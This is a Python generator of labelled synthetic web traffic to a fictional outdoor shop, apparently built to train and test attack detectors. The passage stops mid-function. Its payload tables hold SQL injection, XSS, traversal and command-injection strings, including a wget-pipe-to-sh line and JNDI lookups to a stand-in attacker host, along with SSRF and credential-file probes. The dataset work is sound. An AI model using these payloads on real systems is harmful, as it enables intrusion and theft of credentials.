"""A seeded, offline generator of raw HTTP traffic to a made-up outdoor-gear shop
(``shop.harborpine.test``), written as CSIC-style raw request dumps and combined access-log lines,
and the package's default data set made by passing that text through
:mod:`threat_ensemble.http.features` (shipped as ``threat_ensemble/data/default_traffic.parquet``).

    python datasets/default_traffic.py traffic/           # raw dumps and access logs to featurize
    python datasets/default_traffic.py --write-default    # the shipped default data set, again

Normal traffic is browsing sessions with benign oddities (long and quoted search queries, encoded
but harmless characters, phrases that look like SQL, link previews of outside URLs, crawlers,
monitors and API clients). Attacks come from their own clients: SQL injection, XSS, path
traversal, command injection, JNDI lookups and SSRF in query parameters, headers or only in POST
bodies, scanners (tool agents or spoofed browsers), credential stuffing and slow order-id
enumeration. About a quarter of the payloads are written to slip past the extractor's signatures,
and some attacks (credential stuffing in a raw dump, enumeration, body payloads seen only through
an access log) look like normal traffic in every feature, so no model can be perfect on it.

Each client's requests go wholly to one of the two formats, so the per-client windows of the log
part see whole histories. Labels are per request: 1 for a request that carries an attack (every
request of a scanner or a credential-stuffing run), 0 otherwise.
"""

from __future__ import annotations

import json
import zlib
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote, quote_plus

import numpy as np
import pandas as pd

HOST = "shop.harborpine.test"
START = pd.Timestamp("2026-03-02 00:00:00", tz="UTC")  # a Monday
DAYS = 3
UTC_OFFSET = "+0100"
ATTACK_SHARE = 0.18
ATTACK_MIX = {  # share of the attack requests
    "sqli": 0.16,
    "xss": 0.11,
    "traversal": 0.08,
    "cmdi": 0.07,
    "jndi": 0.06,
    "ssrf": 0.07,
    "scanner": 0.20,
    "body": 0.11,
    "stuffing": 0.09,
    "enumeration": 0.05,
}
NORMAL_MIX = {"browser": 0.78, "crawler": 0.09, "monitor": 0.04, "api": 0.09}

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:122.0) Gecko/20100101 Firefox/122.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/121.0.0.0 Safari/537.36 Edg/121.0",
    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148",
]
CRAWLERS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
]
MONITORS = ["Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "curl/8.5.0"]
API_CLIENTS = ["python-requests/2.31.0", "okhttp/4.12.0", "Go-http-client/1.1", "HarborPineApp/3.2 (iOS 17.3)"]
ATTACK_TOOLS = {
    "sqli": "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "xss": "Mozilla/5.0 (compatible; XSStrike)",
    "traversal": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:004211)",
    "cmdi": "commix/v3.9 (https://commixproject.com)",
    "jndi": "Mozilla/5.0 zgrab/0.x",
    "ssrf": "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
}
SCANNER_TOOLS = [
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "gobuster/3.6",
    "Mozilla/5.0 zgrab/0.x",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Fuzz Faster U Fool v2.1.0",
]
SCRIPTS = ["curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "Wget/1.21.4"]

CATEGORIES = ["tents", "backpacks", "jackets", "boots", "stoves", "lamps", "kayaks", "sleeping-bags"]
ADJECTIVES = ["trail", "summit", "ridge", "harbor", "pine", "alpine", "coastal", "granite", "cedar", "north"]
NOUNS = ["tent", "pack", "shell", "boot", "stove", "lantern", "kayak", "quilt", "mug", "poles", "tarp"]
SEARCH_WORDS = [
    "waterproof",
    "tent",
    "2 person",
    "ultralight",
    "hiking",
    "boots",
    "women",
    "men",
    "rain jacket",
    "stove",
    "gas",
    "headlamp",
    "kids",
    "sale",
    "winter",
    "sleeping bag",
    "-10c",
    "kayak paddle",
    "size 44",
    "green",
]
BENIGN_ODD_SEARCHES = [  # benign text with quotes, symbols, SQL-like words and non-ASCII letters
    "men's waterproof boots",
    "o'neill jacket",
    "tent & tarp bundle",
    "100% merino wool socks",
    "c++ programmable headlamp",
    "folding drop table for camping",
    "select from 12 colours",
    "kids' boots size 2/3",
    "rock 'n' roll tee",
    "salt and pepper like grandma's grinder",
    "café mug",
    "münchen store pickup",
    "<3 gift ideas",
    "sleeping bag -15°c",
    'quote "harbor pine" catalogue',
    "1=1 deal",
]
STATIC = [
    "/static/css/site.css",
    "/static/js/app.js",
    "/static/js/vendor.js",
    "/favicon.ico",
    "/static/fonts/inter.woff2",
]
PROBES = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-login.php",
    "/wp-admin/setup-config.php",
    "/phpmyadmin/index.php",
    "/admin/",
    "/admin/login.php",
    "/backup.zip",
    "/backup.sql",
    "/db.sql",
    "/config.php.bak",
    "/server-status",
    "/actuator/env",
    "/actuator/health",
    "/.DS_Store",
    "/api/swagger.json",
    "/console",
    "/manager/html",
    "/cgi-bin/test.cgi",
    "/.htaccess",
    "/web.config",
    "/xmlrpc.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/old/",
    "/test/",
    "/debug",
    "/info.php",
    "/.aws/credentials",
    "/id_rsa",
]

# (payload, matches the extractor's signatures). The False ones are the hard cases.
PAYLOADS: dict[str, list[tuple[str, bool]]] = {
    "sqli": [
        ("' OR '1'='1", True),
        ("1' OR 1=1-- -", True),
        ("1 UNION SELECT username,password FROM users--", True),
        ("1/**/UnIoN/**/SeLeCt/**/1,2,version()", True),
        ("1; DROP TABLE orders", True),
        ("1' AND SLEEP(5)#", True),
        ("admin'--", True),
        ("1) UNION ALL SELECT NULL,NULL,NULL--", True),
        ("1' AND extractvalue(1,concat(0x7e,version()))--", True),
        ("1 WAITFOR DELAY '0:0:5'--", True),
        ("x' AND (SELECT 1 FROM information_schema.tables LIMIT 1)=1--", True),
        ("1 AND 3>2", False),
        ("5-0", False),
        ("1 RLIKE 1", False),
        ("a'||'b", False),
        ("1 AND ascii(substr(user(),1,1))>64", False),
        ("price,(case when 1>0 then price else id end)", False),
    ],
    "xss": [
        ("<script>alert(1)</script>", True),
        ('"><img src=x onerror=alert(document.cookie)>', True),
        ("<svg/onload=alert(1)>", True),
        ("javascript:alert(1)", True),
        ("<iframe src=javascript:alert(1)>", True),
        ("'><body onload=alert('x')>", True),
        ('" autofocus onfocus=alert(1) x="', True),
        ("<details open ontoggl&#101;=confirm(1)>", False),
        ('<a href="jav&#x09;ascript:confirm(1)">win</a>', False),
        ('"-confirm`1`-"', False),
        ("{{constructor.constructor('confirm(1)')()}}", False),
        ("<marquee loop=1 width=0 onfinish=confirm(1)>", False),
    ],
    "traversal": [
        ("../../../../etc/passwd", True),
        ("..%2f..%2f..%2fetc%2fpasswd", True),
        ("....//....//....//etc/passwd", True),
        ("..\\..\\..\\windows\\win.ini", True),
        ("%252e%252e%252f%252e%252e%252fetc%252fpasswd", True),
        ("/proc/self/environ", True),
        ("..;/..;/admin/config.yml", False),
        ("..%c0%af..%c0%afapp%c0%afsettings.py", False),
        ("%2e%2e%5c%2e%2e%5capp.ini", False),
    ],
    "cmdi": [
        ("; cat /etc/passwd", True),
        ("| id", True),
        ("$(whoami)", True),
        ("`uname -a`", True),
        ("&& ping -c 3 198.51.100.7", True),
        ("; wget http://203.0.113.9/x.sh -O- | sh", True),
        ("\nid", False),
        ("${IFS}cat${IFS}/etc/hostname", False),
        ("127.0.0.1\nwhoami", False),
    ],
    "jndi": [
        ("${jndi:ldap://203.0.113.5:1389/a}", True),
        ("${${lower:j}ndi:${lower:r}mi://x.attacker.test/o}", True),
        ("${${::-j}${::-n}${::-d}${::-i}:dns://x.attacker.test/}", True),
        ("${jndi:dns://${env:USER}.x.attacker.test}", True),
        ("${${base64:JHtqbmRpOmxkYXA6Ly94fQ==}}", False),
        ("$%7Bj${k8s:k5:-ND}i:ldap://x.attacker.test/a}", False),
    ],
    "ssrf": [
        ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", True),
        ("http://127.0.0.1:6379/", True),
        ("file:///etc/passwd", True),
        ("gopher://127.0.0.1:11211/_stats", True),
        ("http://localhost:8080/admin", True),
        ("http://10.0.0.12/internal/status", True),
        ("http://metadata.google.internal/computeMetadata/v1/", True),
        ("http://2852039166/latest/meta-data/", False),
        ("http://0x7f.1/", False),
        ("http://[0:0:0:0:0:ffff:127.0.0.1]/", False),
        ("http://internal-admin.harborpine.test/", False),
    ],
}
EXTERNAL_URLS = [
    "https://www.example.org/blog/best-tents-2026",
    "https://cdn.example.net/img/tent-42.jpg",
    "https://outdoor-review.example.com/articles/123?ref=hp",
    "https://www.youtube.example/watch?v=a1b2c3",
    "https://images.example.com/u/8812/avatar.png",
]
# Endpoints with query parameters: normal clients send benign values, attackers a payload in one of
# them, so the path and the parameter names never give an attack away. name -> (path, parameters).
ENDPOINTS: dict[str, tuple[str, tuple[str, ...]]] = {
    "listing": ("/products/{category}", ("page", "sort")),
    "search": ("/search", ("q", "page")),
    "order": ("/account/orders", ("id",)),
    "api_products": ("/api/v1/products", ("category", "limit", "fields")),
    "contact": ("/contact", ("subject",)),
    "download": ("/static/download", ("file",)),
    "export": ("/api/v1/export", ("template", "name")),
    "blog": ("/blog/view", ("page",)),
    "track": ("/api/v1/track", ("carrier", "number")),
    "stores": ("/api/v1/stores", ("zip", "radius")),
    "preview": ("/api/v1/preview", ("url",)),
    "image": ("/image-proxy", ("src", "w")),
    "avatar": ("/account/avatar", ("from_url",)),
}
# family -> the (endpoint, parameter) pairs it attacks
TARGETS: dict[str, list[tuple[str, str]]] = {
    "sqli": [("listing", "sort"), ("search", "q"), ("order", "id"), ("api_products", "category")],
    "xss": [("search", "q"), ("contact", "subject"), ("listing", "sort")],
    "traversal": [("download", "file"), ("export", "template"), ("blog", "page")],
    "cmdi": [("track", "number"), ("stores", "zip"), ("export", "name")],
    "jndi": [("search", "q"), ("api_products", "category")],
    "ssrf": [("preview", "url"), ("image", "src"), ("avatar", "from_url")],
}
NORMAL_PAGES = {  # page kind -> share of normal page views
    "home": 0.12,
    "listing": 0.16,
    "product": 0.16,
    "search": 0.13,
    "blog_post": 0.04,
    "blog": 0.02,
    "cart": 0.05,
    "login": 0.04,
    "checkout": 0.02,
    "review": 0.03,
    "order": 0.07,
    "api_products": 0.02,
    "contact": 0.02,
    "download": 0.03,
    "export": 0.01,
    "track": 0.03,
    "stores": 0.02,
    "preview": 0.02,
    "image": 0.03,
    "avatar": 0.01,
    "image_file": 0.06,
}
REVIEWS = [
    "Great tent, survived a storm!",
    "I'd select this one from all the others - light & warm <3",
    "Zipper broke after 2 trips :(",
    "Perfect for kids' camp; 10/10 would buy again",
    "Comfortable, but runs small - order +1 size",
    "Works at -10C. Packs to 30x15cm.",
]


@dataclass
class _Request:
    t: float
    client: str
    method: str
    target: str
    ua: str
    referer: str
    headers: tuple[tuple[str, str], ...]
    body: str
    content_type: str
    status: int
    size: int
    label: int
    family: str


class _Generator:
    """Clients and their requests; one Python object per request is fine at these sizes."""

    def __init__(self, seed: int) -> None:
        self.rng = np.random.default_rng(seed)
        self.requests: list[_Request] = []
        self.products = [f"{a}-{b}-{i}" for i, (a, b) in enumerate((a, b) for a in ADJECTIVES for b in NOUNS)]
        kinds = list(NORMAL_PAGES)
        shares = np.array(list(NORMAL_PAGES.values()))
        self.page_kinds, self.page_p = kinds, shares / shares.sum()

    # --------------------------------------------------------------- small helpers
    def pick(self, items: list) -> object:
        return items[int(self.rng.integers(len(items)))]

    def chance(self, p: float) -> bool:
        return bool(self.rng.random() < p)

    def ip(self, private: float = 0.0) -> str:
        r = self.rng.integers(1, 255, 4)
        if self.chance(private):
            return str(
                self.pick([f"10.{r[1]}.{r[2]}.{r[3]}", f"192.168.{r[2]}.{r[3]}", f"172.{16 + r[1] % 16}.{r[2]}.{r[3]}"])
            )
        first = int(r[0])
        while first in (10, 127, 169, 172, 192, 100):
            first = int(self.rng.integers(1, 224))
        return f"{first}.{r[1]}.{r[2]}.{r[3]}"

    def start_time(self, diurnal: float) -> float:
        """Seconds after START; ``diurnal`` is the chance of following the day's rhythm."""
        day = int(self.rng.integers(DAYS))
        hour = (self.rng.normal(14.0, 4.0) if self.chance(diurnal) else self.rng.uniform(0, 24)) % 24
        return day * 86400.0 + hour * 3600.0

    def page_size(self) -> int:
        return int(self.rng.lognormal(9.3, 0.6))

    def status(self, error_rate: float) -> int:
        if not self.chance(error_rate):
            return 200
        return int(self.pick([404, 404, 403, 400, 500, 401]))

    def encode(self, payload: str) -> str:
        """A query value as clients send it: fully encoded, partly encoded (quotes and brackets left
        as they are, as tools often do) or double encoded."""
        style = self.rng.random()
        if style < 0.45:
            return quote(payload, safe="")
        if style < 0.9:
            return quote(payload, safe="'()*,;=:/$!@<>{}|`")
        return quote(quote(payload, safe=""), safe="")

    def search_words(self) -> str:
        if self.chance(0.07):
            return str(self.pick(BENIGN_ODD_SEARCHES))
        n = int(self.rng.integers(8, 20)) if self.chance(0.05) else int(self.rng.integers(1, 4))  # long searches
        return " ".join(str(self.pick(SEARCH_WORDS)) for _ in range(n))

    def benign_value(self, param: str) -> str:
        """A harmless value of one endpoint parameter, already encoded for the URL."""
        rng = self.rng
        values = {
            "page": lambda: str(rng.integers(1, 6)),
            "sort": lambda: str(self.pick(["price", "name", "rating", "newest", "price_desc"])),
            "q": lambda: quote_plus(self.search_words()) if self.chance(0.8) else quote(self.search_words(), safe=""),
            "id": lambda: str(rng.integers(10000, 99999)),
            "category": lambda: str(self.pick(CATEGORIES)),
            "limit": lambda: str(self.pick([20, 50, 100])),
            "fields": lambda: quote(str(self.pick(["id,name,price", "id,name", "id,name,price,stock"])), safe=","),
            "subject": lambda: quote_plus(str(self.pick(["returns", "shipping", "warranty claim", "other", "b2b"]))),
            "file": lambda: str(self.pick(["catalogue-2026.pdf", "size-guide.pdf", "manuals/stove-x2.pdf"])),
            "template": lambda: str(self.pick(["invoice", "packing-slip", "receipt"])),
            "name": lambda: f"order-{rng.integers(10000, 99999)}",
            "carrier": lambda: str(self.pick(["ups", "dhl", "usps"])),
            "number": lambda: f"1Z{rng.integers(10**9, 10**10)}",
            "zip": lambda: str(rng.integers(10000, 99999)),
            "radius": lambda: str(self.pick([10, 25, 50])),
            "url": lambda: quote(str(self.pick(EXTERNAL_URLS)), safe=""),
            "src": lambda: quote(str(self.pick(EXTERNAL_URLS)), safe=":/"),
            "w": lambda: str(self.pick([200, 400, 800])),
            "from_url": lambda: quote(str(self.pick(EXTERNAL_URLS)), safe=""),
        }
        if param == "page" and self.chance(0.3):
            return f"{self.pick(ADJECTIVES)}-{self.pick(NOUNS)}-guide.html"
        return values[param]()

    def endpoint_target(self, endpoint: str, inject: str | None = None, payload: str = "") -> str:
        path, params = ENDPOINTS[endpoint]
        path = path.replace("{category}", str(self.pick(CATEGORIES)))
        query = "&".join(f"{p}={payload if p == inject else self.benign_value(p)}" for p in params)
        return f"{path}?{query}"

    def login_body(self) -> str:
        user = quote_plus(f"{self.pick(['jane', 'tom', 'li', 'ana', 'sam', 'kofi'])}.{self.pick(NOUNS)}@mail.test")
        return f"email={user}&password={quote_plus(self.rng.bytes(6).hex() + '!')}&remember=on"

    def add(self, t: float, client: str, method: str, target: str, ua: str, **kw: object) -> None:
        body = str(kw.get("body", ""))
        default_type = "application/json" if body.startswith("{") else "application/x-www-form-urlencoded"
        content_type = str(kw.get("content_type") or (default_type if body else ""))
        self.requests.append(
            _Request(
                t=t,
                client=client,
                method=method,
                target=target,
                ua=ua,
                referer=str(kw.get("referer", "")),
                headers=tuple(kw.get("headers", ())),  # type: ignore[arg-type]
                body=body,
                content_type=content_type,
                status=int(kw.get("status", 200)),
                size=int(kw.get("size", self.page_size())),
                label=int(kw.get("label", 0)),
                family=str(kw.get("family", "normal")),
            )
        )

    # --------------------------------------------------------------- normal clients
    def normal_page(self, error_rate: float = 0.03) -> tuple[str, str, str, int]:
        """(method, target, body, status) of one page view, benign oddities included."""
        kind = self.page_kinds[int(self.rng.choice(len(self.page_kinds), p=self.page_p))]
        status = self.status(error_rate)
        if kind == "home":
            return "GET", "/", "", status
        if kind == "product":
            return "GET", f"/products/{self.pick(CATEGORIES)}/{self.pick(self.products)}.html", "", status
        if kind == "blog_post":
            return "GET", f"/blog/2026/{self.pick(ADJECTIVES)}-{self.pick(NOUNS)}-guide", "", status
        if kind == "image_file":
            return "GET", f"/static/img/{self.pick(NOUNS)}-{self.rng.integers(1, 99)}.jpg", "", status
        if kind == "cart":
            body = f"product_id={self.rng.integers(1, 900)}&qty={self.rng.integers(1, 4)}&variant=std"
            return "POST", "/cart/add", body, status
        if kind == "login":  # some users mistype their password
            return "POST", "/account/login", self.login_body(), 401 if self.chance(0.25) else 302
        if kind == "checkout":
            body = (
                "name=Jane+Doe&address=12+Harbor+Road%2C+Apt+3&city=Portland&zip=97201"
                f"&card_last4={self.rng.integers(1000, 9999)}&shipping=standard"
            )
            return "POST", "/checkout", body, 302 if status == 200 else status
        if kind == "review":
            text = str(self.pick(REVIEWS))
            body = json.dumps(
                {"product_id": int(self.rng.integers(1, 900)), "rating": int(self.rng.integers(1, 6)), "text": text}
            )
            return "POST", "/api/v1/reviews", body, 201 if status == 200 else status
        return "GET", self.endpoint_target(kind), "", status

    def browser_session(self, budget: int) -> int:
        staff = self.chance(0.05)
        client = self.ip(private=1.0 if staff else 0.05)
        ua = str(self.pick(BROWSERS))
        t = self.start_time(diurnal=0.9)
        error_rate = float(self.pick([0.01, 0.03, 0.03, 0.08, 0.2]))  # some users follow many dead links
        n = 0
        referer = ""
        for _ in range(int(self.rng.geometric(1 / 7))):
            if staff and self.chance(0.5):
                method, body, status = "GET", "", self.status(error_rate)
                target = f"/admin/{self.pick(['orders', 'stock', 'reports', 'users'])}?page={self.rng.integers(1, 9)}"
            else:
                method, target, body, status = self.normal_page(error_rate)
            self.add(t, client, method, target, ua, body=body, status=status, referer=referer)
            n += 1
            for asset in self.rng.choice(STATIC, int(self.rng.integers(0, 3)), replace=False):
                cached = self.chance(0.4)
                self.add(
                    t + self.rng.uniform(0.05, 1.0),
                    client,
                    "GET",
                    str(asset),
                    ua,
                    status=304 if cached else 200,
                    size=0 if cached else int(self.rng.lognormal(9, 1)),
                    referer=f"https://{HOST}{target.split('?')[0]}",
                )
                n += 1
            referer = f"https://{HOST}{target}"
            t += float(self.rng.lognormal(2.8, 1.0))
            if n >= budget:
                break
        return n

    def crawler(self, budget: int) -> int:
        client, ua = self.ip(), str(self.pick(CRAWLERS))
        t = self.start_time(diurnal=0.0)
        n = int(min(budget, self.rng.integers(20, 120)))
        for i in range(n):
            if i == 0:
                target = "/robots.txt"
            elif i == 1:
                target = "/sitemap.xml"
            else:
                _, target, body, _ = self.normal_page()
                if body:
                    target = f"/products/{self.pick(CATEGORIES)}"
            status = 404 if self.chance(0.06) else (301 if self.chance(0.04) else 200)
            self.add(t, client, "GET", target, ua, status=status)
            t += float(self.rng.uniform(1.0, 12.0))
        return n

    def monitor(self, budget: int) -> int:
        client, ua = self.ip(private=0.5), str(self.pick(MONITORS))
        t = self.start_time(diurnal=0.0)
        n = int(min(budget, self.rng.integers(20, 80)))
        for _ in range(n):
            self.add(t, client, "HEAD" if self.chance(0.5) else "GET", self.pick(["/", "/healthz"]), ua, size=2)
            t += 60.0 + float(self.rng.normal(0, 0.5))
        return n

    def api_client(self, budget: int) -> int:
        client, ua = self.ip(private=0.2), str(self.pick(API_CLIENTS))
        t = self.start_time(diurnal=0.7)
        n = int(min(budget, self.rng.integers(3, 40)))
        for _ in range(n):
            r = self.rng.random()
            if r < 0.6:
                target = self.endpoint_target(str(self.pick(["api_products", "api_products", "track", "stores"])))
                self.add(t, client, "GET", target, ua, status=self.status(0.03), size=int(self.rng.lognormal(8, 0.8)))
            elif r < 0.8:
                item = {"product_id": int(self.rng.integers(1, 900)), "qty": int(self.rng.integers(1, 4))}
                body = json.dumps({"items": [item], "coupon": None})
                self.add(t, client, "POST", "/api/v1/cart", ua, body=body, status=201)
            else:
                method, target, body, status = self.normal_page()
                self.add(t, client, method, target, ua, body=body, status=status)
            t += float(self.rng.lognormal(1.0, 1.0))
        return n

    # --------------------------------------------------------------- attackers
    def payload(self, family: str) -> str:
        hard = self.chance(0.25)
        choices = [p for p, matched in PAYLOADS[family] if matched != hard]
        return str(self.pick(choices))

    def attacker_agent(self, family: str) -> tuple[str, bool]:
        """(User-Agent, is a tool): tools announce themselves, the others pass for browsers or scripts."""
        if family in ATTACK_TOOLS and self.chance(0.2):
            return ATTACK_TOOLS[family], True
        return str(self.pick(BROWSERS if self.chance(0.6) else SCRIPTS)), False

    def injector(self, family: str, budget: int) -> int:
        """Payloads in query parameters (JNDI also in headers), with some plain browsing in between."""
        client = self.ip(private=0.03)
        ua, tool = self.attacker_agent(family)
        t = self.start_time(diurnal=0.5)
        n = int(min(budget, self.rng.integers(2, 40 if tool else 12)))
        referer = f"https://{HOST}/" if ua in BROWSERS else ""
        made = 0
        while made < n:
            if not tool and self.chance(0.25):  # a plain page view by the same client: label 0
                method, target, body, status = self.normal_page()
                self.add(t, client, method, target, ua, body=body, status=status, referer=referer)
            else:
                endpoint, param = TARGETS[family][int(self.rng.integers(len(TARGETS[family])))]
                payload = self.payload(family)
                headers: list[tuple[str, str]] = []
                request_ua = ua
                if family == "jndi" and self.chance(0.6):  # in a header instead of the URL
                    if self.chance(0.6):
                        request_ua = payload
                    else:
                        headers.append(("X-Api-Version", payload))
                    target = self.endpoint_target(endpoint)
                else:
                    target = self.endpoint_target(endpoint, param, self.encode(payload))
                status = int(self.pick([200] * 6 + [500, 403, 400]))
                self.add(
                    t, client, "GET", target, request_ua, headers=headers, status=status, referer=referer, label=1,
                    family=family,
                )  # fmt: skip
            made += 1
            t += float(self.rng.lognormal(0.5, 1.0) if tool else self.rng.lognormal(3.0, 1.0))
        return made

    def body_attack(self, budget: int) -> int:
        """Payloads only in POST bodies, to endpoints that take normal bodies too."""
        client, ua = self.ip(), str(self.pick(BROWSERS + BROWSERS + SCRIPTS))
        t = self.start_time(diurnal=0.5)
        n = int(min(budget, self.rng.integers(1, 8)))
        for _ in range(n):
            family = str(self.pick(["sqli", "sqli", "xss", "cmdi", "jndi"]))
            payload = self.payload(family)
            kind = self.rng.random()
            if kind < 0.4:
                target, status = "/account/login", int(self.pick([302, 401, 401, 500]))
                password = quote_plus(self.rng.bytes(6).hex() + "!")
                body = f"email={quote_plus(payload)}&password={password}&remember=on"
            elif kind < 0.7:
                target, status = "/api/v1/reviews", int(self.pick([201, 201, 400, 500]))
                body = json.dumps({"product_id": int(self.rng.integers(1, 900)), "rating": 5, "text": payload})
            else:
                target, status = "/cart/add", int(self.pick([200, 200, 500]))
                body = f"product_id={quote_plus(payload)}&qty={self.rng.integers(1, 4)}&variant=std"
            self.add(t, client, "POST", target, ua, body=body, status=status, label=1, family="body_" + family)
            t += float(self.rng.lognormal(3.0, 1.0))
        return n

    def scanner(self, budget: int) -> int:
        client = self.ip()
        ua = str(self.pick(SCANNER_TOOLS)) if self.chance(0.5) else str(self.pick(BROWSERS + SCRIPTS))
        t = self.start_time(diurnal=0.3)
        n = int(min(budget, self.rng.integers(15, 150)))
        for _ in range(n):
            if self.chance(0.7):
                target = str(self.pick(PROBES))
            else:  # guesses that look like the site's own pages
                folder = self.pick(["admin", "account", "api/v2", "products", "old", "staging"])
                target = f"/{folder}/{self.pick(NOUNS)}"
            status = int(self.pick([404] * 7 + [403, 200, 301]))
            method = str(self.pick(["GET"] * 8 + ["HEAD", "POST"]))
            size = int(self.rng.lognormal(6, 0.7))
            self.add(t, client, method, target, ua, status=status, size=size, label=1, family="scanner")
            t += float(self.rng.lognormal(-1.0, 0.8))
        return n

    def stuffing(self, budget: int) -> int:
        """Credential stuffing: logins like everyone's, told apart only by their rate and failures."""
        client, ua = self.ip(), str(self.pick(BROWSERS + BROWSERS + SCRIPTS))
        t = self.start_time(diurnal=0.5)
        n = int(min(budget, self.rng.integers(10, 80)))
        for _ in range(n):
            status = 401 if self.chance(0.9) else 302
            self.add(t, client, "POST", "/account/login", ua, body=self.login_body(), status=status, label=1,
                     family="stuffing")  # fmt: skip
            t += float(self.rng.lognormal(0.8, 0.8))
        return n

    def enumeration(self, budget: int) -> int:
        """Slow enumeration of other customers' orders by id: every request looks like a normal one."""
        client, ua = self.ip(private=0.05), str(self.pick(BROWSERS))
        t = self.start_time(diurnal=0.9)
        first = int(self.rng.integers(10000, 90000))
        n = int(min(budget, self.rng.integers(3, 25)))
        for i in range(n):
            status = 200 if self.chance(0.75) else 403
            target = f"/account/orders?id={first + i}"
            self.add(t, client, "GET", target, ua, status=status, referer=f"https://{HOST}/account/orders?page=1",
                     label=1, family="enumeration")  # fmt: skip
            t += float(self.rng.lognormal(3.5, 0.8))
        return n

    def generate(self, n_requests: int) -> list[_Request]:
        n_attack = int(round(ATTACK_SHARE * n_requests))
        budgets = {"normal": n_requests - n_attack, "attack": n_attack}
        makers = {
            "browser": self.browser_session,
            "crawler": self.crawler,
            "monitor": self.monitor,
            "api": self.api_client,
            "scanner": self.scanner,
            "body": self.body_attack,
            "stuffing": self.stuffing,
            "enumeration": self.enumeration,
        }
        # weights by requests, not by clients: divide by each kind's typical requests per client
        per_client = {"browser": 12, "crawler": 70, "monitor": 50, "api": 20, "scanner": 80, "body": 4, "stuffing": 45}
        for side, mix in (("normal", NORMAL_MIX), ("attack", ATTACK_MIX)):
            kinds = list(mix)
            weights = np.array([mix[k] / per_client.get(k, 10) for k in kinds])
            weights = weights / weights.sum()
            left = budgets[side]
            while left > 0:
                kind = kinds[int(self.rng.choice(len(kinds), p=weights))]
                before = len(self.requests)
                made = makers[kind](left) if kind in makers else self.injector(kind, left)
                if made > left:  # a browser session adds its assets after the budget check
                    del self.requests[before + left :]
                    made = left
                left -= made
        return self.requests


def generate_requests(n_requests: int = 20000, seed: int = 42) -> pd.DataFrame:
    """One row per generated request, in time order: client, time, method, target, headers, body,
    response and ground truth (``label``, ``family``)."""
    if n_requests < 1:
        raise ValueError("n_requests must be at least 1")
    reqs = _Generator(seed).generate(n_requests)
    frame = pd.DataFrame([r.__dict__ for r in reqs])
    frame["t"] = START.timestamp() + frame["t"]
    return frame.sort_values("t", kind="stable").reset_index(drop=True)


def to_raw_dump(requests: pd.DataFrame, seed: int = 0) -> str:
    """CSIC-style raw dump: absolute-form request line, headers, blank line, body; requests
    separated by a blank line. Some requests use CRLF line endings, the others LF."""
    rng = np.random.default_rng(seed)
    crlf = rng.random(len(requests)) < 0.3
    chunks = []
    for row, use_crlf in zip(requests.itertuples(index=False), crlf, strict=True):
        lines = [f"{row.method} http://{HOST}{row.target} HTTP/1.1"]
        if row.ua:
            lines.append(f"User-Agent: {row.ua}")
        lines.append(f"Host: {HOST}")
        if row.ua.startswith("Mozilla/5.0 ("):  # browsers send more headers than scripts and tools
            lines += [
                "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                "Accept-Language: en-US,en;q=0.5",
                "Accept-Encoding: gzip, deflate",
            ]
        else:
            lines.append("Accept: */*")
        if row.referer:
            lines += [f"Referer: {row.referer}", f"Cookie: session={zlib.crc32(row.client.encode()):08x}"]
        lines += [f"{name}: {value}" for name, value in row.headers]
        body = row.body.encode("utf-8")
        if body:
            lines += [f"Content-Type: {row.content_type}", f"Content-Length: {len(body)}"]
        lines += ["Connection: close", "", row.body, ""]
        eol = "\r\n" if use_crlf else "\n"
        chunks.append(eol.join(lines))
    return "\n".join(chunks)


def _log_quote(value: str) -> str:
    return value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") if value else "-"


def to_access_log(requests: pd.DataFrame, fmt: str = "combined") -> str:
    """Apache/nginx ``common`` or ``combined`` log lines, local time at :data:`UTC_OFFSET`."""
    if fmt not in ("common", "combined"):
        raise ValueError(f"unknown log format {fmt!r}")
    local = pd.to_datetime(requests["t"], unit="s") + pd.Timedelta(hours=int(UTC_OFFSET[:3]))
    stamps = local.dt.strftime("%d/%b/%Y:%H:%M:%S").tolist()
    lines = []
    for row, stamp in zip(requests.itertuples(index=False), stamps, strict=True):
        request = _log_quote(f"{row.method} {row.target} HTTP/1.1")
        line = f'{row.client} - - [{stamp} {UTC_OFFSET}] "{request}" {row.status} {row.size}'
        if fmt == "combined":
            line += f' "{_log_quote(row.referer)}" "{_log_quote(row.ua)}"'
